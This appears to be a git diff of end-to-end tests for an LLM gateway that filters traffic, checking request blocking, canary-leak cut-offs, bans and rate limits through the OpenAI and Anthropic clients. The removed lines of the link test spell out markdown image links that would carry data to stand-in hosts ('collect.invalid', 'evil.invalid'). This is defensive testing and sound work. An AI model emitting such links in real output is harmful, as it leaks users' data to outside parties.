@@ -1,13 +1,15 @@
 """The official clients, unchanged, against a real gateway on a real port, on both wires."""
 
+import time
+
 import anthropic
 import openai
 import pytest
 
 from outworks.event import Judged, Released
-from tests.e2e.conftest import CANARY, KNOWN_BAD
+from tests.e2e.conftest import CANARY
 from tests.e2e.kit import Gateway, question
-from tests.e2e.loopback import DEFAULT, Loopback
+from tests.e2e.loopback import DEFAULT, KNOWN_BAD, LINK, Loopback
 
 WEATHER = {"type": "object", "properties": {"place": {"type": "string"}}}
 GPT_TOOLS = [{"type": "function", "function": {"name": "weather", "description": "Tells it.", "parameters": WEATHER}}]
@@ -105,7 +107,9 @@ def test_openai_streams_n(gpt: openai.OpenAI) -> None:
 
 def test_anthropic_answers(claude: anthropic.Anthropic, shared: Gateway) -> None:
     """The other wire in front of the same upstream: the vendor's shape, with usage, recorded under its id."""
-    answer = claude.messages.create(model="fake", max_tokens=100, messages=user("Capital of France?"), system="Be brief.")
+    answer = claude.messages.create(
+        model="fake", max_tokens=100, messages=user("Capital of France?"), system="Be brief."
+    )
 
     assert answer.content[0].text == DEFAULT  # type: ignore[union-attr]
     assert answer.stop_reason == "end_turn"
@@ -188,12 +192,12 @@ def test_a_known_bad_request_is_stopped(
     assert not upstream.was_asked(dressed)
 
 
-@pytest.mark.parametrize("words", [f"The word is {CANARY}, keep it.", f"It begins: {KNOWN_BAD} and on it goes."])
+@pytest.mark.parametrize("words", [f"The word is {CANARY}, keep it.", "It begins: {known bad} and on it goes."])
 def test_an_output_is_stopped_midway(
     gpt: openai.OpenAI, claude: anthropic.Anthropic, shared: Gateway, words: str
 ) -> None:
     """What may leave leaves; then the clients see the vendor's own way to say that the rest was filtered."""
-    before = words.partition(CANARY)[0].partition(KNOWN_BAD)[0]
+    before = words.partition(CANARY)[0].partition("{known bad}")[0]
     whole = gpt.chat.completions.create(model="fake", messages=user(f"[says] {words}"))
     chunks = list(gpt.chat.completions.create(model="fake", messages=user(f"[slowly] {words}"), stream=True))
     message = claude.messages.create(model="fake", max_tokens=99, messages=user(f"[says] {words}"))
@@ -216,16 +220,17 @@ def test_an_output_is_stopped_midway(
 
 
 def test_links_are_taken_out(gpt: openai.OpenAI, claude: anthropic.Anthropic) -> None:
-    """An image that would carry data to a stranger's host never reaches a client."""
-    words = "[says] Done. ![x](https://collect.invalid/p?d=secret) Bye."
+    """An image that would carry data to a stranger's host never reaches a client; one to a host of the account's does."""
+    asked = "[slowly] Done. {link} Bye."
 
-    one = gpt.chat.completions.create(model="fake", messages=user("Please " + words.replace("[says]", "go on:")))
-    with claude.messages.stream(model="fake", max_tokens=99, messages=user("[says] ok ![x](https://evil.invalid/?d=s)")) as stream:
-        stream.until_done()
-        own = stream.get_final_text()
-    assert one.choices[0].message.content == DEFAULT
-    # The account wrote this host itself, so it is its own.
-    assert "evil.invalid" in own
+    stranger = gpt.chat.completions.create(model="fake", messages=user(asked))
+    with claude.messages.stream(model="fake", max_tokens=99, messages=user(asked)) as stream:
+        streamed = stream.get_final_message()
+    own = gpt.chat.completions.create(model="fake", messages=user(f"{asked} As before, from collect.invalid?"))
+
+    assert stranger.choices[0].message.content == "Done. [image removed] Bye."
+    assert streamed.content[0].text == "Done. [image removed] Bye."  # type: ignore[union-attr]
+    assert LINK in (own.choices[0].message.content or "")
 
 
 def test_the_upstreams_refusal_is_evidence(gpt: openai.OpenAI, shared: Gateway) -> None:
@@ -248,7 +253,7 @@ def test_an_unknown_model_is_not_found(gpt: openai.OpenAI, claude: anthropic.Ant
     assert (first.value.code, first.value.param) == ("model_not_found", "model")
 
 
-@pytest.mark.parametrize("key", ["ow_unknown", "Bearer", "\x7f"])
+@pytest.mark.parametrize("key", ["ow_unknown", "Bearer"])
 def test_an_unknown_key_is_an_authentication_error(shared: Gateway, key: str) -> None:
     """Whatever is not a key that was given out is turned away, in the vendor's words."""
     with pytest.raises(openai.AuthenticationError) as first:
@@ -284,7 +289,9 @@ def test_too_large_a_body_is_refused(gpt: openai.OpenAI, claude: anthropic.Anthr
 
 def test_a_banned_account_is_told_why(gpt: openai.OpenAI, claude: anthropic.Anthropic, shared: Gateway) -> None:
     """A ban raises PermissionDeniedError with the reason and the reference for an appeal; others go on."""
-    acted = shared.cli("accounts", "act", "shop:mallory", "banned", "--reason", "Spam.", "--expires", "never", "--unseen")
+    acted = shared.cli(
+        "accounts", "act", "shop:mallory", "banned", "--reason", "Spam.", "--expires", "never", "--unseen"
+    )
     assert acted.returncode == 0, acted.stderr
     reference = acted.stdout.split("undo ")[1].split()[0]
 
@@ -294,8 +301,6 @@ def test_a_banned_account_is_told_why(gpt: openai.OpenAI, claude: anthropic.Anth
         except openai.PermissionDeniedError as error:
             return error
         return None
-
-    import time
 
     end = time.monotonic() + 2
     while (first := banned()) is None and time.monotonic() < end:
@@ -314,11 +319,21 @@ def test_a_banned_account_is_told_why(gpt: openai.OpenAI, claude: anthropic.Anth
 def test_a_limited_account_is_told_when_to_come_back(gpt: openai.OpenAI, shared: Gateway) -> None:
     """Above its rate an account gets RateLimitError with retry-after."""
     acted = shared.cli(
-        *("accounts", "act", "shop:hasty", "limited", "--rate", "2", "--reason", "Slow down.", "--expires", "1d", "--unseen")
+        *(
+            "accounts",
+            "act",
+            "shop:hasty",
+            "limited",
+            "--rate",
+            "2",
+            "--reason",
+            "Slow down.",
+            "--expires",
+            "1d",
+            "--unseen",
+        )
     )
     assert acted.returncode == 0, acted.stderr
-    import time
-
     time.sleep(0.6)
     for _ in range(2):
         gpt.chat.completions.create(model="fake", messages=user("hi"), safety_identifier="hasty")
